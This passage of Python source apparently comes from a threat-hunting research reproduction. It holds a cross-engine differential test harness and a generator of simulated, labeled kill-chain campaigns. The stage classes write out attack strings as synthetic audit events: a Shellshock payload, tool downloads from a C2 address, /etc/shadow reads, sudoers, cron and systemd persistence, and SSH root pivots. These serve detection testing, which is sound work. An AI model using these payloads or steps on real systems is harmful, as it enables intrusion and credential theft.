    The four axes mirror the repo's execution machinery:

    * ``relational_executor`` — vectorized columnar vs. row-dict reference;
    * ``backend`` — relational tables vs. graph path search vs. the sqlite3
      SQL backend (compiled queries rendered to parameterized SQL and run by
      an engine that shares no code with the Python executors);
    * ``prepared`` — ad-hoc ``execute`` vs. cached ``PreparedQuery`` plans;
    * ``streaming`` — one-shot batch load vs. micro-batched replay through
      watermark-windowed standing hunts (always prepared);
    * ``crash_resume`` — the streaming run is additionally killed at a batch
      boundary and resumed from checkpoint + alert journal
      (:mod:`repro.scenarios.faults`); recovery must not change the answers.
    * ``storage`` — in-memory relational store vs. the durable on-disk
      segmented store (:mod:`repro.storage.segment`), each run owning a
      temporary data directory;
    * ``shards`` — a single audit store vs. a host-partitioned
      :class:`~repro.storage.sharded.ShardedAuditStore` whose per-shard
      results merge through the shared plan cache.
    """

    name: str
    backend: str = "relational"
    relational_executor: str = "vectorized"
    prepared: bool = False
    streaming: bool = False
    graph_matcher: str = "planner"
    crash_resume: bool = False
    storage: str = "memory"
    shards: int = 1
    #: Deliberately small seal threshold so campaign-sized traces produce
    #: several sealed segments per run — exercising seal/prune/merge paths,
    #: not just the memtable.
    segment_rows: int = 256

    def pipeline_config(self) -> ThreatRaptorConfig:
        """The :class:`ThreatRaptorConfig` this configuration stands for."""
        return ThreatRaptorConfig(
            execution_backend=self.backend,
            relational_executor=self.relational_executor,
            graph_matcher=self.graph_matcher,
            storage=self.storage,
            shards=self.shards,
            segment_rows=self.segment_rows,
        )


#: The configuration matrix the differential tests run: every axis —
#: including the graph matcher (cost-guided planner vs. DFS oracle) — is
#: exercised in both directions (streaming hunts are prepared by design).
ENGINE_CONFIGURATIONS: tuple[EngineConfiguration, ...] = (
    EngineConfiguration(name="relational-adhoc-batch"),
    EngineConfiguration(name="relational-reference-adhoc-batch", relational_executor="reference"),
    EngineConfiguration(name="relational-prepared-batch", prepared=True),
    EngineConfiguration(name="graph-adhoc-batch", backend="graph"),
    EngineConfiguration(name="graph-reference-adhoc-batch", backend="graph", graph_matcher="reference"),
    EngineConfiguration(name="graph-prepared-batch", backend="graph", prepared=True),
    EngineConfiguration(name="relational-prepared-streaming", prepared=True, streaming=True),
    EngineConfiguration(name="graph-prepared-streaming", backend="graph", prepared=True, streaming=True),
    EngineConfiguration(
        name="relational-prepared-streaming-crashresume",
        prepared=True,
        streaming=True,
        crash_resume=True,
    ),
    EngineConfiguration(name="segments-adhoc-batch", storage="segments"),
    EngineConfiguration(
        name="segments-prepared-streaming",
        prepared=True,
        streaming=True,
        storage="segments",
    ),
    EngineConfiguration(name="sharded4-prepared-batch", prepared=True, shards=4),
    EngineConfiguration(name="sharded4-graph-prepared-batch", backend="graph", prepared=True, shards=4),
    EngineConfiguration(
        name="sharded4-segments-prepared-streaming-crashresume",
        prepared=True,
        streaming=True,
        crash_resume=True,
        storage="segments",
        shards=4,
    ),
    EngineConfiguration(name="sql-adhoc-batch", backend="sql"),
    EngineConfiguration(name="sql-prepared-batch", backend="sql", prepared=True),
    EngineConfiguration(
        name="sql-prepared-streaming", backend="sql", prepared=True, streaming=True
    ),
    EngineConfiguration(
        name="sql-prepared-streaming-crashresume",
        backend="sql",
        prepared=True,
        streaming=True,
        crash_resume=True,
    ),
)

#: The configuration every other one is compared against.
BASELINE_CONFIGURATION = ENGINE_CONFIGURATIONS[0]


@dataclass(frozen=True)
class HuntOutcome:
    """What one configuration answered for one campaign hunt."""

    configuration: str
    hunt: str
    matched_event_ids: frozenset[int]
    #: Score against the hunt's own expected chain event ids.
    score: PrecisionRecall


@dataclass
class CampaignDifferential:
    """All configurations' answers for one campaign, plus the comparison."""

    campaign: str
    #: Name of the configuration the others are compared against (the first
    #: configuration of the harness that produced this differential).
    baseline: str = BASELINE_CONFIGURATION.name
    outcomes: list[HuntOutcome] = field(default_factory=list)
    #: Per-configuration score of the union of all hunt matches against the
    #: campaign's full ground-truth event ids.
    campaign_scores: dict[str, PrecisionRecall] = field(default_factory=dict)

    def outcome(self, configuration: str, hunt: str) -> HuntOutcome:
        for outcome in self.outcomes:
            if outcome.configuration == configuration and outcome.hunt == hunt:
                return outcome
        raise KeyError(f"no outcome for configuration={configuration!r} hunt={hunt!r}")

    def mismatches(self, baseline: str | None = None) -> list[str]:
        """Human-readable divergence descriptions (empty when consistent)."""
        baseline = self.baseline if baseline is None else baseline
        problems: list[str] = []
        hunts = sorted({outcome.hunt for outcome in self.outcomes})
        for hunt in hunts:
            reference = self.outcome(baseline, hunt)
            for outcome in self.outcomes:
                if outcome.hunt != hunt or outcome.configuration == baseline:
                    continue
                if outcome.matched_event_ids != reference.matched_event_ids:
                    missing = sorted(reference.matched_event_ids - outcome.matched_event_ids)
                    extra = sorted(outcome.matched_event_ids - reference.matched_event_ids)
                    problems.append(
                        f"{self.campaign}/{hunt}: {outcome.configuration} disagrees with "
                        f"{baseline} (missing={missing}, extra={extra})"
                    )
                # Per-hunt scores are derived from the matched sets against a
                # fixed expectation, so equal sets imply equal scores; the
                # explicit P/R/F1 comparison happens at campaign level below.
        reference_campaign = self.campaign_scores.get(baseline)
        for configuration, score in self.campaign_scores.items():
            if (
                reference_campaign is not None
                and configuration != baseline
                and score.as_dict() != reference_campaign.as_dict()
            ):
                problems.append(
                    f"{self.campaign}: campaign-level P/R/F1 of {configuration} "
                    f"{score.as_dict()} != {baseline} {reference_campaign.as_dict()}"
                )
        return problems


@dataclass
class DifferentialReport:
    """The harness result over a whole campaign set."""

    configurations: tuple[str, ...]
    campaigns: list[CampaignDifferential] = field(default_factory=list)

    def mismatches(self) -> list[str]:
        return [problem for diff in self.campaigns for problem in diff.mismatches()]

    @property
    def consistent(self) -> bool:
        return not self.mismatches()

    def summary(self) -> dict[str, object]:
        return {
            "campaigns": len(self.campaigns),
            "configurations": list(self.configurations),
            "hunts_compared": sum(len(diff.outcomes) for diff in self.campaigns),
            "mismatches": self.mismatches(),
        }


class DifferentialHarness:
    """Runs campaigns' expected hunts through every engine configuration.

    Args:
        configurations: Engine configurations to compare (defaults to the full
            :data:`ENGINE_CONFIGURATIONS` matrix; the first one is the
            comparison baseline).
        batch_size: Streaming replay micro-batch size.
        apply_reduction: Run Causality Preserved Reduction before storage —
            applied identically on the batch and streaming paths, so it is
            itself under differential test.
    """

    def __init__(
        self,
        configurations: tuple[EngineConfiguration, ...] = ENGINE_CONFIGURATIONS,
        batch_size: int = 96,
        apply_reduction: bool = True,
    ) -> None:
        if not configurations:
            raise ValueError("DifferentialHarness needs at least one configuration")
        self._configurations = configurations
        self._batch_size = batch_size
        self._apply_reduction = apply_reduction

    @property
    def configurations(self) -> tuple[EngineConfiguration, ...]:
        return self._configurations

    # -- execution -----------------------------------------------------------

    def matched_event_ids(
        self, configuration: EngineConfiguration, campaign: GeneratedCampaign
    ) -> dict[str, set[int]]:
        """Run every expected hunt of ``campaign`` under one configuration.

        Returns a mapping of hunt name to the set of matched audit event ids.
        """
        if configuration.streaming:
            return self._hunt_streaming(configuration, campaign)
        return self._hunt_batch(configuration, campaign)

    def _pipeline(self, configuration: EngineConfiguration) -> ThreatRaptor:
        config = replace(
            configuration.pipeline_config(), apply_reduction=self._apply_reduction
        )
        return ThreatRaptor(config)

    def _hunt_batch(
        self, configuration: EngineConfiguration, campaign: GeneratedCampaign
    ) -> dict[str, set[int]]:
        raptor = self._pipeline(configuration)
        raptor.load_trace(campaign.trace)
        matched: dict[str, set[int]] = {}
        for hunt in campaign.hunts:
            if configuration.prepared:
                result = raptor.prepare_query(hunt.query_text).execute()
            else:
                result = raptor.execute_query(hunt.query_text)
            matched[hunt.name] = set(result.all_matched_event_ids())
        return matched

    def _hunt_streaming(
        self, configuration: EngineConfiguration, campaign: GeneratedCampaign
    ) -> dict[str, set[int]]:
        if configuration.crash_resume:
            return self._hunt_streaming_crash_resume(configuration, campaign)
        raptor = self._pipeline(configuration)
        service = raptor.watch(batch_size=self._batch_size)
        for hunt in campaign.hunts:
            service.register_hunt(hunt.name, query=hunt.query_text)
        service.run(ReplaySource(campaign.trace))
        return {hunt.name: service.matched_event_ids(hunt.name) for hunt in campaign.hunts}

    def _hunt_streaming_crash_resume(
        self, configuration: EngineConfiguration, campaign: GeneratedCampaign
    ) -> dict[str, set[int]]:
        # The streaming run is killed mid-stream and resumed from its
        # checkpoint + journal; the recovered answers join the differential
        # comparison like any other engine path.
        import tempfile

        from repro.scenarios.faults import CrashRecoveryHarness

        with tempfile.TemporaryDirectory(prefix="crashresume-") as workdir:
            harness = CrashRecoveryHarness(
                workdir,
                batch_size=self._batch_size,
                pipeline_factory=lambda: self._pipeline(configuration),
            )
            boundary = max(1, harness.batch_count(campaign) // 2)
            return harness.crash_and_resume(campaign, boundary).matched

    # -- comparison ----------------------------------------------------------

    def run_campaign(self, campaign: GeneratedCampaign) -> CampaignDifferential:
        """Run one campaign through every configuration and compare."""
        differential = CampaignDifferential(
            campaign=campaign.name, baseline=self._configurations[0].name
        )
        for configuration in self._configurations:
            matched_by_hunt = self.matched_event_ids(configuration, campaign)
            all_matched: set[int] = set()
            for hunt in campaign.hunts:
                matched = matched_by_hunt[hunt.name]
                all_matched.update(matched)
                differential.outcomes.append(
                    HuntOutcome(
                        configuration=configuration.name,
                        hunt=hunt.name,
                        matched_event_ids=frozenset(matched),
                        score=score_hunting(matched, hunt.expected_event_ids),
                    )
                )
            differential.campaign_scores[configuration.name] = score_hunting(
                all_matched, campaign.ground_truth.event_ids
            )
        return differential

    def run(self, campaigns: list[GeneratedCampaign]) -> DifferentialReport:
        """Run a campaign set through the full configuration matrix."""
        report = DifferentialReport(
            configurations=tuple(config.name for config in self._configurations)
        )
        for campaign in campaigns:
            report.campaigns.append(self.run_campaign(campaign))
        return report


def verify_campaigns(
    count: int = 8, base_seed: int = 1200, noise_scale: float = 0.5
) -> DifferentialReport:
    """Generate ``count`` campaigns and differential-verify all engine paths."""
    harness = DifferentialHarness()
    return harness.run(generate_campaigns(count, base_seed=base_seed, noise_scale=noise_scale))
