"""Adversarial campaign simulation and cross-engine differential verification.

``repro.scenarios`` generates many seeded, labeled, multi-host attack
campaigns (:mod:`repro.scenarios.campaign`) from parameterized kill-chain
stages (:mod:`repro.scenarios.stages`), and verifies that every engine
configuration — vectorized/reference relational, relational/graph backend,
ad-hoc/prepared plans, batch/streaming replay, and crash-resumed streaming —
returns identical hunting answers on all of them
(:mod:`repro.scenarios.differential`), with deterministic fault injection and
crash-recovery equivalence checking in :mod:`repro.scenarios.faults`.
"""

from repro.scenarios.campaign import (
    CampaignGenerator,
    GeneratedCampaign,
    generate_campaigns,
    generate_labeled_trace,
)
from repro.scenarios.differential import (
    BASELINE_CONFIGURATION,
    ENGINE_CONFIGURATIONS,
    CampaignDifferential,
    DifferentialHarness,
    DifferentialReport,
    EngineConfiguration,
    HuntOutcome,
    verify_campaigns,
)
from repro.scenarios.faults import (
    CrashRecoveryHarness,
    FaultPlan,
    FaultyStream,
    FlakySink,
    RecoveryOutcome,
    RecoveryReport,
)
from repro.scenarios.stages import CampaignHunt, CampaignSpec

__all__ = [
    "BASELINE_CONFIGURATION",
    "ENGINE_CONFIGURATIONS",
    "CampaignDifferential",
    "CampaignGenerator",
    "CampaignHunt",
    "CampaignSpec",
    "CrashRecoveryHarness",
    "DifferentialHarness",
    "DifferentialReport",
    "EngineConfiguration",
    "FaultPlan",
    "FaultyStream",
    "FlakySink",
    "GeneratedCampaign",
    "HuntOutcome",
    "RecoveryOutcome",
    "RecoveryReport",
    "generate_campaigns",
    "generate_labeled_trace",
    "verify_campaigns",
]
