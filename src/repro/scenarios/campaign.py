"""Seeded kill-chain campaign generator.

The paper evaluates ThreatRaptor on two fixed multi-step attacks; this module
generates *many*.  :func:`generate_labeled_trace` composes the parameterized
stages of :mod:`repro.scenarios.stages` — initial access, tool staging,
persistence, privilege escalation, lateral movement across 2–4 hosts,
collection and exfiltration — into one labeled campaign, interleaved with the
benign workload noise of :mod:`repro.auditing.workload.benign` so malicious
events are buried in routine activity.

Each campaign carries:

* the full :class:`~repro.auditing.trace.AuditTrace` (benign + malicious);
* an :class:`~repro.auditing.workload.attacks.AttackGroundTruth` compatible
  with :func:`repro.evaluation.score_hunting`;
* the expected TBQL hunts (:class:`~repro.scenarios.stages.CampaignHunt`)
  with the exact event ids each query must match.

Generation is fully deterministic per seed: the same seed yields a
byte-identical event stream and identical ground truth.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.auditing.trace import AuditTrace
from repro.auditing.workload.attacks import AttackGroundTruth
from repro.auditing.workload.base import ScenarioBuilder, WorkloadGenerator
from repro.auditing.workload.benign import (
    AuthenticationWorkload,
    BackupWorkload,
    DeveloperShellWorkload,
    LogRotationWorkload,
    SoftwareUpdateWorkload,
    WebServerWorkload,
)
from repro.scenarios.stages import (
    COMPRESSORS,
    DOWNLOADERS,
    ENCRYPTORS,
    ESCALATION_VARIANTS,
    INITIAL_ACCESS_VARIANTS,
    PERSISTENCE_VARIANTS,
    SHELLS,
    TOOL_NAMES,
    UPLOADERS,
    CampaignContext,
    CampaignHunt,
    CampaignSpec,
    CampaignStage,
    CollectionStage,
    ExfiltrationStage,
    LateralMovementStage,
    ToolStagingStage,
)


@dataclass(frozen=True)
class GeneratedCampaign:
    """One generated, labeled, huntable attack campaign."""

    name: str
    seed: int
    spec: CampaignSpec
    trace: AuditTrace
    ground_truth: AttackGroundTruth
    hunts: tuple[CampaignHunt, ...]

    def hunt(self, name: str) -> CampaignHunt:
        """Look up one expected hunt by name."""
        for hunt in self.hunts:
            if hunt.name == name:
                return hunt
        raise KeyError(f"campaign {self.name!r} has no hunt named {name!r}")

    def summary(self) -> dict[str, object]:
        """Compact description used by the CLI and the benchmarks."""
        return {
            "name": self.name,
            "seed": self.seed,
            "stages": list(self.spec.variants),
            "hosts": self.spec.hosts,
            "events": len(self.trace.events),
            "malicious_events": len(self.trace.malicious_event_ids),
            "ground_truth_events": len(self.ground_truth.event_ids),
            "hunts": [hunt.name for hunt in self.hunts],
        }


def _draw_spec(seed: int, rng: random.Random) -> CampaignSpec:
    """Draw the campaign's parameter choices from its seeded RNG."""
    token = "".join(rng.choices("abcdef0123456789", k=6))
    staging = f"/tmp/.stage-{token}"
    return CampaignSpec(
        seed=seed,
        initial_access=rng.choice(INITIAL_ACCESS_VARIANTS).name,
        persistence=rng.choice(PERSISTENCE_VARIANTS).name,
        privilege_escalation=rng.choice(ESCALATION_VARIANTS).name,
        hosts=rng.randint(2, 4),
        shell=rng.choice(SHELLS),
        downloader=rng.choice(DOWNLOADERS),
        tool_path=f"{staging}/{rng.choice(TOOL_NAMES)}",
        compressor=rng.choice(COMPRESSORS),
        encryptor=rng.choice(ENCRYPTORS),
        uploader=rng.choice(UPLOADERS),
        attacker_ip=f"198.18.{rng.randint(1, 250)}.{rng.randint(1, 250)}",
        c2_ip=f"185.{rng.randint(10, 250)}.{rng.randint(1, 250)}.{rng.randint(1, 250)}",
        staging=staging,
    )


def _stage_chain(spec: CampaignSpec) -> list[CampaignStage]:
    """Instantiate the kill chain the spec describes, in execution order."""
    by_name = {
        variant.name: variant
        for variant in (
            *INITIAL_ACCESS_VARIANTS,
            *PERSISTENCE_VARIANTS,
            *ESCALATION_VARIANTS,
        )
    }
    return [
        by_name[spec.initial_access](),
        ToolStagingStage(),
        by_name[spec.persistence](),
        by_name[spec.privilege_escalation](),
        LateralMovementStage(),
        CollectionStage(),
        ExfiltrationStage(),
    ]


def _benign_mix(noise_scale: float, rng: random.Random) -> list[WorkloadGenerator]:
    """The scaled benign workload mix, in a seed-shuffled order."""
    workloads: list[WorkloadGenerator] = [
        WebServerWorkload(requests=max(1, int(60 * noise_scale))),
        LogRotationWorkload(rotations=max(1, int(4 * noise_scale))),
        SoftwareUpdateWorkload(packages=max(1, int(4 * noise_scale))),
        DeveloperShellWorkload(iterations=max(1, int(12 * noise_scale))),
        BackupWorkload(
            files_per_run=max(1, int(8 * noise_scale)), runs=max(1, int(2 * noise_scale))
        ),
        AuthenticationWorkload(logins=max(1, int(10 * noise_scale))),
    ]
    rng.shuffle(workloads)
    return workloads


class CampaignGenerator:
    """Generates one labeled campaign per seed.

    Args:
        seed: Controls every random choice — stage variants, tools, addresses,
            fan-out counts, benign jitter.  Same seed, same campaign,
            byte-for-byte.
        noise_scale: Multiplier on the benign workload sizes; the default
            buries a campaign's ~40–70 malicious events in a few hundred
            benign ones.
        host: Hostname stamped on the simulated trace.
    """

    def __init__(self, seed: int, noise_scale: float = 0.5, host: str = "victim-host") -> None:
        self._seed = seed
        self._noise_scale = noise_scale
        self._host = host

    def generate(self) -> GeneratedCampaign:
        """Build the campaign: draw the spec, run stages and noise, label."""
        # Integer-only seed derivation: seeding from a tuple would hash
        # strings, which PYTHONHASHSEED randomizes across processes.
        rng = random.Random(0x5EED ^ (self._seed * 1_000_003))
        spec = _draw_spec(self._seed, rng)
        builder = ScenarioBuilder(host=self._host, seed=self._seed)
        name = f"campaign-{self._seed}"
        ctx = CampaignContext(
            builder=builder, rng=rng, spec=spec, truth=AttackGroundTruth(name=name)
        )

        # Interleave a benign workload before each of the first stages (the
        # mix is smaller than the kill chain, so late stages run back to
        # back) and always keep one for after the last stage, so malicious
        # activity is buried mid-timeline like in the paper's demo rather
        # than leading or trailing the trace.
        stages = _stage_chain(spec)
        benign = _benign_mix(self._noise_scale, rng)
        tail = benign.pop()
        for index, stage in enumerate(stages):
            if index < len(benign):
                benign[index].generate(builder)
            stage.generate(ctx)
        for workload in benign[len(stages):]:
            workload.generate(builder)
        tail.generate(builder)

        return GeneratedCampaign(
            name=name,
            seed=self._seed,
            spec=spec,
            trace=builder.build(),
            ground_truth=ctx.truth,
            hunts=tuple(ctx.hunts),
        )


def generate_labeled_trace(
    seed: int = 11, noise_scale: float = 0.5, host: str = "victim-host"
) -> GeneratedCampaign:
    """Generate one labeled campaign (trace + ground truth + expected hunts)."""
    return CampaignGenerator(seed=seed, noise_scale=noise_scale, host=host).generate()


def generate_campaigns(
    count: int, base_seed: int = 101, noise_scale: float = 0.5, host: str = "victim-host"
) -> list[GeneratedCampaign]:
    """Generate ``count`` campaigns with consecutive seeds from ``base_seed``."""
    return [
        generate_labeled_trace(seed=base_seed + offset, noise_scale=noise_scale, host=host)
        for offset in range(count)
    ]
