"""Parameterized kill-chain stages for the campaign simulator.

Each stage models one phase of a multi-step intrusion — initial access,
tool staging, persistence, privilege escalation, lateral movement across
hosts, collection and exfiltration — and appends its events onto the shared
:class:`~repro.auditing.workload.base.ScenarioBuilder` of a campaign, exactly
like the hand-written demo attacks in
:mod:`repro.auditing.workload.attacks`.  Stages are *parameterized*: tool
paths, C2 addresses, staging directories and fan-out counts come from the
campaign's seeded RNG, so different seeds produce structurally different but
fully deterministic campaigns.

Every malicious event a stage emits is recorded in the campaign's
:class:`~repro.auditing.workload.attacks.AttackGroundTruth`.  The staging and
exfiltration stages additionally publish a :class:`CampaignHunt` — the TBQL
query a correct OSCTI-driven hunt would run against the campaign, plus the
exact event ids that query must match — which the differential harness
(:mod:`repro.scenarios.differential`) replays through every engine
configuration.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.auditing.entities import ProcessEntity
from repro.auditing.events import Operation, SystemEvent
from repro.auditing.workload.attacks import AttackGroundTruth
from repro.auditing.workload.base import ScenarioBuilder


@dataclass(frozen=True)
class CampaignHunt:
    """One expected hunting answer for a generated campaign.

    Attributes:
        name: Stable hunt name (unique within the campaign).
        query_text: TBQL source text of the hunt.
        expected_event_ids: Audit event ids the query must match.  They are a
            subset of the campaign's ground-truth event ids — the steps of the
            chain the query describes.
    """

    name: str
    query_text: str
    expected_event_ids: frozenset[int]


@dataclass(frozen=True)
class CampaignSpec:
    """The seeded parameter choices that shape one campaign.

    The spec is drawn *before* any event is generated, so it doubles as a
    compact, comparable description of the campaign's structure (used by the
    diversity tests and printed by the CLI).
    """

    seed: int
    initial_access: str
    persistence: str
    privilege_escalation: str
    hosts: int
    shell: str
    downloader: str
    tool_path: str
    compressor: str
    encryptor: str
    uploader: str
    attacker_ip: str
    c2_ip: str
    staging: str

    @property
    def variants(self) -> tuple[str, ...]:
        """The stage-variant fingerprint used to compare campaign structure."""
        return (
            self.initial_access,
            self.persistence,
            self.privilege_escalation,
            f"hosts-{self.hosts}",
            self.compressor,
            self.encryptor,
            self.uploader,
        )


@dataclass
class CampaignContext:
    """Mutable state threaded through the stages of one campaign."""

    builder: ScenarioBuilder
    rng: random.Random
    spec: CampaignSpec
    truth: AttackGroundTruth
    hunts: list[CampaignHunt] = field(default_factory=list)
    #: The attacker-controlled shell on the currently compromised host;
    #: installed by the initial-access stage, replaced by lateral movement.
    foothold: ProcessEntity | None = None
    #: The downloaded attack-tool process (tool staging stage).
    tool: ProcessEntity | None = None
    #: Path of the collection archive (collection stage → exfiltration stage).
    archive_path: str = ""

    def mark(
        self, event: SystemEvent, subject_exe: str, object_identifier: str
    ) -> SystemEvent:
        """Record one malicious event in the campaign ground truth."""
        self.truth.record(event, subject_exe, object_identifier)
        return event

    def require_foothold(self) -> ProcessEntity:
        if self.foothold is None:
            raise RuntimeError("stage ordering bug: no foothold shell established yet")
        return self.foothold


class CampaignStage:
    """Base class for kill-chain stages."""

    name = "stage"

    def generate(self, ctx: CampaignContext) -> None:
        raise NotImplementedError


# ---------------------------------------------------------------------------
# Initial access.
# ---------------------------------------------------------------------------


class ShellshockAccess(CampaignStage):
    """CGI Shellshock exploitation: the web server forks an attacker shell."""

    name = "shellshock"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        web = builder.spawn_process(
            "/usr/sbin/apache2", cmdline="apache2 -k start", owner="www-data"
        )
        shell = builder.spawn_process(
            spec.shell, cmdline=f"() {{ :; }}; {spec.shell} -i", owner="www-data"
        )
        conn = builder.connection(dstip=spec.attacker_ip, dstport=80)
        ctx.mark(
            builder.emit(web, Operation.ACCEPT, conn, malicious=True),
            "/usr/sbin/apache2",
            spec.attacker_ip,
        )
        ctx.mark(builder.fork(web, shell, malicious=True), "/usr/sbin/apache2", spec.shell)
        ctx.foothold = shell


class SSHBruteforceAccess(CampaignStage):
    """Credential stuffing against sshd, ending in an attacker login shell."""

    name = "ssh-bruteforce"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        sshd = builder.spawn_process("/usr/sbin/sshd", cmdline="sshd: root [priv]")
        shadow = builder.file("/etc/shadow")
        attempts = ctx.rng.randint(3, 6)
        for _ in range(attempts):
            conn = builder.connection(dstip=spec.attacker_ip, dstport=22)
            ctx.mark(
                builder.emit(sshd, Operation.ACCEPT, conn, malicious=True),
                "/usr/sbin/sshd",
                spec.attacker_ip,
            )
        ctx.mark(builder.read(sshd, shadow, amount=1024, malicious=True), "/usr/sbin/sshd", "/etc/shadow")
        shell = builder.spawn_process(spec.shell, cmdline=f"{spec.shell} -i", owner="root")
        ctx.mark(builder.fork(sshd, shell, malicious=True), "/usr/sbin/sshd", spec.shell)
        ctx.foothold = shell


class SupplyChainAccess(CampaignStage):
    """A trojaned package install drops and launches an attacker shell."""

    name = "supply-chain"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        dpkg = builder.spawn_process("/usr/bin/dpkg", cmdline="dpkg -i updates.deb")
        package = builder.file(f"{spec.staging}-pkg/updates.deb")
        implant = builder.file("/usr/local/sbin/updated")
        ctx.mark(
            builder.read(dpkg, package, amount=1 << 19, malicious=True),
            "/usr/bin/dpkg",
            package.name,
        )
        ctx.mark(
            builder.write(dpkg, implant, amount=1 << 18, malicious=True),
            "/usr/bin/dpkg",
            "/usr/local/sbin/updated",
        )
        shell = builder.spawn_process(
            spec.shell, cmdline=f"{spec.shell} -c /usr/local/sbin/updated", owner="root"
        )
        ctx.mark(builder.fork(dpkg, shell, malicious=True), "/usr/bin/dpkg", spec.shell)
        ctx.foothold = shell


# ---------------------------------------------------------------------------
# Tool staging (weaponization): download the attack tool from the C2 host.
# ---------------------------------------------------------------------------


class ToolStagingStage(CampaignStage):
    """The foothold shell downloads and launches the attack tool.

    Publishes the campaign's ``staging`` hunt: *downloader connects to the C2
    address, writes the tool file, and the shell forks the tool* — a
    three-pattern chain query with full temporal ordering.
    """

    name = "tool-staging"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        shell = ctx.require_foothold()
        downloader = builder.spawn_process(
            spec.downloader, cmdline=f"{spec.downloader} http://{spec.c2_ip}/t", owner="www-data"
        )
        conn = builder.connection(dstip=spec.c2_ip, dstport=443)
        tool_file = builder.file(spec.tool_path)

        ctx.mark(builder.fork(shell, downloader, malicious=True), spec.shell, spec.downloader)
        connect = ctx.mark(
            builder.connect(downloader, conn, malicious=True), spec.downloader, spec.c2_ip
        )
        ctx.mark(
            builder.recv(downloader, conn, amount=1 << 20, malicious=True),
            spec.downloader,
            spec.c2_ip,
        )
        write = ctx.mark(
            builder.write(downloader, tool_file, amount=1 << 20, malicious=True),
            spec.downloader,
            spec.tool_path,
        )
        tool = builder.spawn_process(
            spec.tool_path, cmdline=f"{spec.tool_path} -d", owner="www-data"
        )
        fork = ctx.mark(builder.fork(shell, tool, malicious=True), spec.shell, spec.tool_path)
        ctx.mark(builder.execute(tool, tool_file, malicious=True), spec.tool_path, spec.tool_path)
        ctx.tool = tool

        query = (
            f'proc d["%{spec.downloader}%"] connect ip c["{spec.c2_ip}"] as stg1\n'
            f'proc d write file t["%{spec.tool_path}%"] as stg2\n'
            f'proc s["%{spec.shell}%"] fork proc x["%{spec.tool_path}%"] as stg3\n'
            "with stg1 before stg2, stg2 before stg3\n"
            "return distinct d, c, t, s, x"
        )
        ctx.hunts.append(
            CampaignHunt(
                name="staging",
                query_text=query,
                expected_event_ids=frozenset(
                    {connect.event_id, write.event_id, fork.event_id}
                ),
            )
        )


# ---------------------------------------------------------------------------
# Persistence.
# ---------------------------------------------------------------------------


class CronPersistence(CampaignStage):
    """Persistence through a dropped cron job."""

    name = "cron-persistence"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        shell = ctx.require_foothold()
        crontab = builder.file("/etc/crontab")
        dropin = builder.file(f"/etc/cron.d/{spec.staging.rsplit('-', 1)[-1]}")
        ctx.mark(builder.read(shell, crontab, amount=512, malicious=True), spec.shell, "/etc/crontab")
        ctx.mark(builder.write(shell, dropin, amount=128, malicious=True), spec.shell, dropin.name)


class ShellProfilePersistence(CampaignStage):
    """Persistence by appending to the root shell profile."""

    name = "profile-persistence"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        shell = ctx.require_foothold()
        profile = builder.file("/root/.bashrc")
        ctx.mark(builder.read(shell, profile, amount=512, malicious=True), spec.shell, "/root/.bashrc")
        ctx.mark(builder.write(shell, profile, amount=160, malicious=True), spec.shell, "/root/.bashrc")


class SystemdPersistence(CampaignStage):
    """Persistence through a rogue systemd unit."""

    name = "systemd-persistence"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        shell = ctx.require_foothold()
        unit = builder.file(f"/etc/systemd/system/{spec.staging.rsplit('-', 1)[-1]}.service")
        systemctl = builder.spawn_process("/bin/systemctl", cmdline="systemctl daemon-reload")
        ctx.mark(builder.write(shell, unit, amount=256, malicious=True), spec.shell, unit.name)
        ctx.mark(builder.fork(shell, systemctl, malicious=True), spec.shell, "/bin/systemctl")


# ---------------------------------------------------------------------------
# Privilege escalation.
# ---------------------------------------------------------------------------


class SudoersEscalation(CampaignStage):
    """The attack tool grants itself sudo rights."""

    name = "sudoers-escalation"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        subject = ctx.tool or ctx.require_foothold()
        subject_exe = spec.tool_path if ctx.tool is not None else spec.shell
        sudoers = builder.file("/etc/sudoers")
        dropin = builder.file("/etc/sudoers.d/90-cloud-init")
        ctx.mark(builder.read(subject, sudoers, amount=1024, malicious=True), subject_exe, "/etc/sudoers")
        ctx.mark(builder.write(subject, dropin, amount=96, malicious=True), subject_exe, "/etc/sudoers.d/90-cloud-init")


class SuidHelperEscalation(CampaignStage):
    """Abuse of a SUID helper to read protected credential files."""

    name = "suid-escalation"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        shell = ctx.require_foothold()
        helper = builder.spawn_process("/usr/bin/pkexec", cmdline="pkexec /bin/sh", owner="root")
        helper_file = builder.file("/usr/bin/pkexec")
        shadow = builder.file("/etc/shadow")
        ctx.mark(builder.fork(shell, helper, malicious=True), spec.shell, "/usr/bin/pkexec")
        ctx.mark(builder.execute(helper, helper_file, malicious=True), "/usr/bin/pkexec", "/usr/bin/pkexec")
        ctx.mark(builder.read(helper, shadow, amount=1024, malicious=True), "/usr/bin/pkexec", "/etc/shadow")


# ---------------------------------------------------------------------------
# Lateral movement.
# ---------------------------------------------------------------------------


class LateralMovementStage(CampaignStage):
    """SSH pivots through ``spec.hosts - 1`` additional hosts.

    Each hop forks an ssh client from the current foothold, connects to the
    next host and establishes a remote shell, which becomes the new foothold:
    collection and exfiltration then run on the *last* compromised host.
    """

    name = "lateral-movement"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        current = ctx.require_foothold()
        for hop in range(spec.hosts - 1):
            target_ip = f"10.0.{hop + 2}.5"
            ssh = builder.spawn_process(
                "/usr/bin/ssh", cmdline=f"ssh root@{target_ip}", owner="root"
            )
            conn = builder.connection(dstip=target_ip, dstport=22)
            ctx.mark(builder.fork(current, ssh, malicious=True), spec.shell, "/usr/bin/ssh")
            ctx.mark(builder.connect(ssh, conn, malicious=True), "/usr/bin/ssh", target_ip)
